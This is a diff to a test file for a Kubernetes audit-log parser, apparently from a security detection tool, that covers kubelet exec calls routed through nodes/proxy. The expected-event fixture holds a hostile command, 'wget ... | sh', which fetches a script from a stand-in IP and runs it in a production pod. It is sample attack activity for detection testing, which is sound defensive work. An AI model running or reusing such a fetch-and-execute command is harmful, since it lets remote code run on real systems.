@@ -62,6 +62,30 @@ const expected: Record<string, ExecEvent[]> = {
       },
     },
   ],
+  "k8s-audit-nodes-proxy-exec": [
+    {
+      process: { name: "sh", args: ["-c", "wget -qO- http://203.0.113.45/s | sh"] },
+      ancestors: [],
+      container: { name: "storefront" },
+      workload: {
+        platform: "eks",
+        cluster: "prod-eks",
+        namespace: "shop",
+        pod: "storefront-6d9f8b7c5-2xkzw",
+        node: "ip-10-0-47-181.ec2.internal",
+      },
+      inContainer: true,
+      viaExecSession: true,
+      time: "2026-03-18T07:41:12.228Z",
+      source,
+      sessionKey: "5b2e8c41-0f7a-4d93-b6e2-8a1c9d3f7e05",
+      actor: {
+        user: "system:serviceaccount:monitoring:node-stats-reader",
+        sourceIPs: ["10.0.61.213"],
+        userAgent: "Go-http-client/1.1",
+      },
+    },
+  ],
   "k8s-audit-attach": [],
   "k8s-audit-list-pods": [],
 };
@@ -120,6 +144,31 @@ describe("kubernetes audit parser", () => {
     ],
   ])("decodes %s", (_label, uri, process) => {
     expect(k8sAudit.parse(withUri(uri), ctx)?.[0]?.process).toEqual(process);
+  });
+
+  it.each([
+    ["a pod uid in the path", "/api/v1/nodes/n1/proxy/exec/ns/pod-1/0c9f6e2a-4b1d/app?command=id", "app"],
+    ["a trailing slash", "/api/v1/nodes/n1:10250/proxy/exec/ns/pod-1/app/?command=id", "app"],
+  ])("reads a kubelet exec through nodes/proxy with %s", (_label, uri, container) => {
+    // Prepare
+    const fixture = loadFixture("k8s-audit-nodes-proxy-exec");
+    fixture.requestURI = uri;
+    // Act
+    const [event] = k8sAudit.parse(JSON.stringify(fixture), ctx) ?? [];
+    // Assess
+    expect(event?.process).toEqual({ name: "id", args: [] });
+    expect(event?.container).toEqual({ name: container });
+    expect(event?.workload).toMatchObject({ namespace: "ns", pod: "pod-1" });
+  });
+
+  it.each([
+    ["node stats", "/api/v1/nodes/n1/proxy/stats/summary"],
+    ["container logs", "/api/v1/nodes/n1/proxy/containerLogs/ns/pod-1/app"],
+    ["a kubelet run (its command is in the body)", "/api/v1/nodes/n1/proxy/run/ns/pod-1/app"],
+  ])("yields nothing for other nodes/proxy requests: %s", (_label, uri) => {
+    const fixture = loadFixture("k8s-audit-nodes-proxy-exec");
+    fixture.requestURI = uri;
+    expect(k8sAudit.parse(JSON.stringify(fixture), ctx)).toEqual([]);
   });
 
   it("yields nothing for an exec without a command", () => {
